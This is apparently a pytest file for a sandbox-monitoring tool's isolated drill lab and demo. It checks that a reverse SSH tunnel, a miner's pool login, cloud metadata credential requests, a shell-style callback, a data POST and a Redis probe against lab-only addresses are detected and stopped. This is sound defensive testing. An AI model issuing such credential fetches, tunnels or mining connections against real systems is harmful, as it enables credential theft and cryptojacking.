"""The drill lab and `corral demo`, end to end.

Each test uses a lab of its own name (never the default `corral-lab` someone may have up), run
through the same entry points a user runs: `corral lab ...` and `corral demo`.  The lab's namespaces
are proved to have no route out before anything runs in them; everything is on documentation
and lab-private addresses.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from corral.drills import lab as lab_mod
from corral.drills.lab import Lab, assert_no_route_out

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("ip") is None or shutil.which("bwrap") is None
    or not Path("/usr/sbin/sshd").exists() or shutil.which("ssh-keygen") is None,
    reason="needs root, iproute2, bubblewrap and OpenSSH")

CORRAL = str(Path(sys.executable).parent / "corral")
DEMO_TIMEOUT_S = 120  # it takes a few seconds; the budget is 60 s on a loaded machine


def _cli(*args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return subprocess.run([CORRAL, *args], capture_output=True, text=True, timeout=timeout)


@pytest.fixture
def lab_name() -> Iterator[str]:
    name = f"corral-lab-t{os.getpid()}"
    yield name
    Lab(name).down()  # whatever a failed test left


def _state_root() -> Path:
    return lab_mod.STATE_ROOT


def leftovers(lab_name: str, sandbox: str | None = None, grace_s: float = 5.0) -> list[str]:
    """Whatever of this lab (and sandbox) still exists: namespaces, state, cgroups, processes.
    Polled for up to `grace_s`: a killed sandbox's inner bwrap is an orphan that init reaps
    (within a second or so here)."""
    deadline = time.monotonic() + grace_s
    while True:
        left = _leftovers(lab_name, sandbox)
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.2)


def _leftovers(lab_name: str, sandbox: str | None) -> list[str]:
    left = []
    names = set(subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout.split())
    left += [f"netns {n}" for n in (lab_name, f"{lab_name}-world") if n in names]
    paths = [_state_root() / lab_name, Path("/etc/netns", lab_name)]
    if sandbox:
        from corral.sandbox.runner import STATE_DIR

        paths += [STATE_DIR / "sandboxes" / sandbox, STATE_DIR / "evidence" / sandbox,
                  Path("/etc/netns", f"corral-{sandbox}")]
        paths += [root / "corral" / sandbox for root in Path("/sys/fs/cgroup").iterdir() if root.is_dir()]
        paths += [Path("/sys/fs/cgroup/corral", sandbox)]
    left += [str(p) for p in paths if p.exists()]
    markers = [str(_state_root() / lab_name), *([sandbox] if sandbox else [])]
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit() or int(proc.name) == os.getpid():
            continue
        try:
            cmdline = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            cgroup = (proc / "cgroup").read_text()
            stat = (proc / "stat").read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if any(m in cmdline or m in cgroup for m in markers):
            left.append(f"process {proc.name} (state {stat[0]}, parent {stat[1]}): {cmdline[:120]}")
    return left


# -- the lab -------------------------------------------------------------------------

def test_lab_up_is_idempotent_status_reports_and_down_cleans(lab_name: str) -> None:
    first = _cli("lab", "up", "--name", lab_name)
    assert first.returncode == 0, first.stderr
    assert "made now" in first.stdout and lab_mod.POOL_HOST in first.stdout
    assert_no_route_out(lab_name)
    assert_no_route_out(f"{lab_name}-world")
    state = json.loads((_state_root() / lab_name / "state.json").read_text())

    second = _cli("lab", "up", "--name", lab_name)  # another process finds it by its state file
    assert second.returncode == 0 and "already up" in second.stdout, second.stdout + second.stderr
    assert json.loads((_state_root() / lab_name / "state.json").read_text())["processes"] == state["processes"]
    names = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout.split()
    assert names.count(lab_name) == 1 and names.count(f"{lab_name}-world") == 1

    with Lab(lab_name) as lab:  # in-process too: found, used, and not taken down on exit
        assert not lab.made and lab.is_up()
    status = _cli("lab", "status", "--name", lab_name, "--json")
    assert status.returncode == 0
    report = json.loads(status.stdout)
    assert report["up"] and report["client_netns"] == lab_name and not report["problems"]

    down = _cli("lab", "down", "--name", lab_name)
    assert down.returncode == 0 and f"namespace {lab_name}-world" in down.stdout, down.stdout + down.stderr
    assert leftovers(lab_name) == []
    after = _cli("lab", "status", "--name", lab_name)
    assert after.returncode == 1 and "NOT UP" in after.stdout


def test_lab_is_rebuilt_when_a_server_died(lab_name: str) -> None:
    with Lab(lab_name) as lab:
        assert lab.made
        pid = json.loads(lab.state_file.read_text())["processes"]["servers"][0]
        os.kill(pid, signal.SIGKILL)
        deadline = time.monotonic() + 5
        while lab.is_up() and time.monotonic() < deadline:
            time.sleep(0.02)
        assert not lab.is_up() and any("servers" in p for p in lab.status()["problems"])
        assert Lab(lab_name).up()  # broken: removed and made again
        assert lab.is_up()
    assert leftovers(lab_name) == []


def test_lab_refuses_a_namespace_that_is_not_a_lab(lab_name: str) -> None:
    subprocess.run(["ip", "netns", "add", lab_name], check=True)
    try:
        up = _cli("lab", "up", "--name", lab_name)
        assert up.returncode == 2 and "no corral lab" in up.stderr, up.stderr
        assert _cli("lab", "down", "--name", lab_name).returncode == 0
        assert lab_name in subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout.split()
    finally:
        subprocess.run(["ip", "netns", "del", lab_name], check=True)


CLIENT_PY = r"""
import json, socket, sys
sys.path.insert(0, sys.argv[1])
from dnslib import DNSRecord

def lines(host, port, *messages):
    with socket.create_connection((host, port), timeout=5) as s:
        f = s.makefile("rb")
        for m in messages:
            s.sendall(json.dumps(m).encode() + b"\n")
            f.readline()

def http(host, port, request):
    with socket.create_connection((host, port), timeout=5) as s:
        s.sendall(request)
        return s.makefile("rb").read().decode()

lines("198.51.100.20", 3333, {"id": 1, "method": "mining.subscribe", "params": []},
      {"id": 2, "method": "mining.authorize", "params": ["w.rig", "x"]})
lines("198.51.100.20", 443, {"id": 1, "jsonrpc": "2.0", "method": "login",
                             "params": {"login": "w", "pass": "x", "agent": "XMRig/6.21.0"}})
print(http("169.254.169.254", 80, b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n").split()[-1])
print(http("100.100.100.200", 80, b"GET /latest/meta-data/ram/security-credentials/ HTTP/1.0\r\n\r\n").split()[-1])
print(http("198.51.100.30", 8080, b"POST /u HTTP/1.0\r\nContent-Length: 5\r\n\r\nhello").split()[-1])
with socket.create_connection(("203.0.113.66", 4444), timeout=5) as s:  # plays the shell itself
    command = s.recv(100)
    s.sendall(b"corral-lab-shell-42\n" if b"$((6*7))" in command else b"?\n")
with socket.create_connection(("10.20.0.11", 6379), timeout=5) as s:
    s.sendall(b"PING\r\n")
    print(s.recv(100).decode().strip())
reply = DNSRecord.parse(DNSRecord.question("pool.supportxmr.example").send("198.51.100.53", 53, timeout=3))
print(reply.short())
"""


def test_lab_servers_answer_and_log_every_access(lab_name: str, tmp_path: Path) -> None:
    key = tmp_path / "id_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True, timeout=30)
    up = _cli("lab", "up", "--name", lab_name, "--key", f"{key}.pub")
    assert up.returncode == 0, up.stderr
    assert_no_route_out(lab_name)  # before anything runs in it
    lab = Lab(lab_name)
    import dnslib  # type: ignore[import-untyped]

    client = subprocess.run(["ip", "netns", "exec", lab_name, sys.executable, "-c", CLIENT_PY,
                             str(Path(dnslib.__file__).parent.parent)], capture_output=True, text=True, timeout=60)
    assert client.returncode == 0, client.stderr
    assert client.stdout.split() == ["lab-role", "lab-role", "ok", "-NOAUTH", "Authentication", "required.",
                                     lab_mod.POOL_HOST]

    ssh = ["ip", "netns", "exec", lab_name, "ssh", "-F", "/dev/null", "-o", "BatchMode=yes",
           "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "IdentitiesOnly=yes",
           "-o", "ExitOnForwardFailure=yes", "-o", "ConnectTimeout=5"]
    target = f"root@{lab_mod.SSH_HOST}"
    stranger = tmp_path / "stranger"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(stranger)], check=True, timeout=30)
    refused = subprocess.run([*ssh, "-i", str(stranger), target, "true"], capture_output=True, text=True, timeout=30)
    assert refused.returncode == 255 and "Permission denied" in refused.stderr
    # A told-about key logs in, its reverse forward is granted and logged, and no command runs.
    tunnel = subprocess.run([*ssh, "-i", str(key), "-R", "2222:127.0.0.1:9", target, "id"],
                            capture_output=True, text=True, timeout=30)
    assert tunnel.returncode == 0 and "no shell here" in tunnel.stdout and "uid=" not in tunnel.stdout, tunnel

    seen = lab.accesses()
    by = {(r["server"], r["what"]) for r in seen}
    assert {("pool", "mining.subscribe"), ("pool", "mining.authorize"), ("pool", "login"), ("shell", "shell output"),
            ("dns", "question"), ("sshd", "connect"), ("sshd", "login"), ("sshd", "forward")} <= by
    http = [r for r in seen if r["server"] == "http" and r["what"] == "request"]
    assert {r["local"] for r in http} == {"169.254.169.254:80", "100.100.100.200:80", f"{lab_mod.SINK_HOST}:8080"}
    assert any(r["method"] == "POST" and r["body_bytes"] == 5 for r in http)
    assert any(r.get("agent") == "XMRig/6.21.0" for r in seen if r["what"] == "login")
    assert any("corral-lab-shell-42" in r["output"] for r in seen if r["what"] == "shell output")
    assert any(r["local"] == "10.20.0.11:6379" and "PING" in r["data"] for r in seen if r.get("what") == "request")
    assert any(r.get("name") == "pool.supportxmr.example" and r.get("answer") == lab_mod.POOL_HOST for r in seen)
    assert sum(r["what"] == "login" for r in seen if r["server"] == "sshd") == 1  # the stranger did not get in
    assert _cli("lab", "down", "--name", lab_name).returncode == 0
    assert leftovers(lab_name) == []


def test_corral_run_lab_attaches_a_sandbox_to_the_lab(lab_name: str) -> None:
    not_up = _cli("run", "--lab", lab_name, "--", "true")
    assert not_up.returncode == 2
    assert f"the drill lab {lab_name} is not up: run `corral lab up --name {lab_name}` first" in not_up.stderr
    assert _cli("lab", "up", "--name", lab_name).returncode == 0
    # Observe mode: the metadata stub answers (it is only in the lab), and the alert says so.
    run = _cli("run", "--lab", lab_name, "--mode", "observe", "--",
               "curl", "-s", "-m", "5", f"http://{lab_mod.METADATA_HOSTS[0]}/latest/meta-data/")
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip(), "the lab's metadata stub did not answer"
    assert "[metadata]" in run.stderr
    assert any(r["server"] == "http" and r["local"] == f"{lab_mod.METADATA_HOSTS[0]}:80"
               for r in Lab(lab_name).accesses())
    both = _cli("run", "--lab", lab_name, "--netns", lab_name, "--", "true")
    assert both.returncode == 2 and "give one" in both.stderr


# -- the demo -------------------------------------------------------------------------

def _demo(out: Path, lab_name: str) -> subprocess.Popen[str]:
    return subprocess.Popen([CORRAL, "demo", "--out", str(out), "--lab", lab_name, "--colour", "never"],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)


def test_demo_catches_the_tunnel_and_the_miner_and_leaves_nothing(lab_name: str, tmp_path: Path) -> None:
    started = time.monotonic()
    proc = _demo(tmp_path, lab_name)
    output, _ = proc.communicate(timeout=DEMO_TIMEOUT_S)
    took = time.monotonic() - started
    print(output)
    print(f"demo took {took:.1f} s")
    assert proc.returncode == 0, output

    verdict = json.loads((tmp_path / "verdict.json").read_text())
    assert {"tunnel", "cryptomining", "recon", "credential_access"} <= set(verdict["categories"])
    assert verdict["worst_severity"] == "critical" and verdict["mode"] == "enforce"
    alerts = [json.loads(line) for line in (tmp_path / "alerts.jsonl").read_text().splitlines()]
    assert alerts and all(a["episode"] == verdict["episode"] for a in alerts)
    # Which step did it: the miner is step 4's (it ran on after its step ended), the tunnel step 5's,
    # the canaries step 6's; the scan (and its probe of the Ray API, which froze the sandbox) step 3's.
    steps = {a["category"]: set() for a in alerts}
    for a in alerts:
        steps[a["category"]].add(a["step"])
    assert steps["cryptomining"] == {4} and steps["tunnel"] == {5} and steps["credential_access"] == {6}
    assert 3 in steps["recon"] and steps["escape"] == {3}
    assert not [a for a in alerts if a["step"] in (1, 2)], "the ordinary task raised alerts"
    acted = {(a["category"], a["action_taken"]) for a in alerts}
    assert {("tunnel", "kill_tree"), ("cryptomining", "cut_network"), ("escape", "freeze")} <= acted, acted
    assert "step 5" in output and "Reverse SSH tunnel" in output and "incident data in" in output

    # Prevented, per the lab's own logs: sshd granted no forwarding, the pool got no share, ever
    # (close() destroys the killed miner's orphaned socket, which would retransmit the share the cut
    # dropped once the sandbox's egress entries are gone).
    sshd = (tmp_path / "lab" / "sshd.log").read_text()
    assert "tcpip-forward" not in sshd
    closed = json.loads((tmp_path / "demo.json").read_text())["sandbox_closed"]
    pool = [json.loads(line) for line in (tmp_path / "lab" / "pool.jsonl").read_text().splitlines()]
    assert [r["what"] for r in pool if r["time"] < closed][:2] == ["connect", "mining.subscribe"]  # what was seen
    assert not [r for r in pool if "submit" in r["what"]], pool
    assert (tmp_path / "events.jsonl").stat().st_size > 0 and (tmp_path / "steps.jsonl").exists()
    assert list((tmp_path / "evidence").glob("*/bundle.json")), "the freeze's evidence bundle was not kept"
    assert leftovers(lab_name, verdict["sandbox"]) == []


def test_demo_interrupted_leaves_nothing(lab_name: str, tmp_path: Path) -> None:
    proc = _demo(tmp_path, lab_name)
    assert proc.stdout is not None
    lines, sandbox = [], None
    deadline = time.monotonic() + DEMO_TIMEOUT_S
    for line in proc.stdout:
        lines.append(line)
        m = re.search(r"sandbox (sb-\S+) in ", line)
        sandbox = m.group(1) if m else sandbox
        if line.startswith("step 3") or time.monotonic() > deadline:
            break
    assert sandbox, "".join(lines)
    proc.send_signal(signal.SIGINT)  # Ctrl-C
    rest, _ = proc.communicate(timeout=60)
    assert proc.returncode == 130, "".join(lines) + rest
    assert "interrupted" in rest
    assert leftovers(lab_name, sandbox) == []
